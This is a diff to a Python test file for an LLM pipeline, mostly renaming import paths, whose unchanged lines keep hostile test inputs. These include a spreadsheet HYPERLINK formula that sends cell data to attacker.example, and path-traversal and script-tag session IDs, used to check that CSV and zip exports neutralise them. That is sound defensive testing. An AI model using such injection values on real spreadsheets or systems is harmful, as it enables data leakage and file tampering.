@@ -13,10 +13,10 @@ import pytest
 import yaml
 from helpers import CPU_QUESTION
 
-from pipeline.cli import main
-from pipeline.config import ROOT, Settings, load_settings
+from pipeline.core.config import ROOT, Settings, load_settings
+from pipeline.frontends.cli import main
 from pipeline.llm.openai_provider import OpenAIProvider
-from pipeline.session import SessionFailed, run_session
+from pipeline.runs.session import SessionFailed, run_session
 from pipeline.store import Store
 from pipeline.tools import bundled
 from pipeline.tools.registry import LogQuery
@@ -310,7 +310,7 @@ def test_csv_export_neutralises_formulas_and_the_cli_gives_the_pages_export(
     import csv
     import io
 
-    from pipeline.queue import QueueFilter, export_csv
+    from pipeline.runs.review_queue import QueueFilter, export_csv
 
     hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"payment API timeout")'
     for question in (hostile, "+1 payment timeout", "@SUM(A1) payment timeout", "-1 payment timeout"):
@@ -330,7 +330,7 @@ def test_bundle_zip_entries_are_plain_file_names_whatever_the_stored_id(store: S
     import zipfile
     from io import BytesIO
 
-    from pipeline.queue import QueueFilter, export_zip
+    from pipeline.runs.review_queue import QueueFilter, export_zip
 
     for sid in ("../../../../tmp/pwned", "<script>alert(1)</script>", "a\\..\\b", "x" * 5000, "/etc/passwd"):
         store.create_session(question="q", world=None, shape="split", provider="offline", model="m", session_id=sid)
@@ -446,8 +446,8 @@ def test_bundle_provenance_signed_edited_unsigned_and_foreign(capsys: pytest.Cap
                                                               cli_backend: str) -> None:
     from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
-    from pipeline.provenance import public_key_text, sign
-    from pipeline.queue import QueueFilter, queue_rows
+    from pipeline.bundles.provenance import public_key_text, sign
+    from pipeline.runs.review_queue import QueueFilter, queue_rows
 
     bundle, signed = exported_bundle(capsys, tmp_path)
     assert bundle["signature"]["public_key"] == run(capsys, "keys")[1].strip()
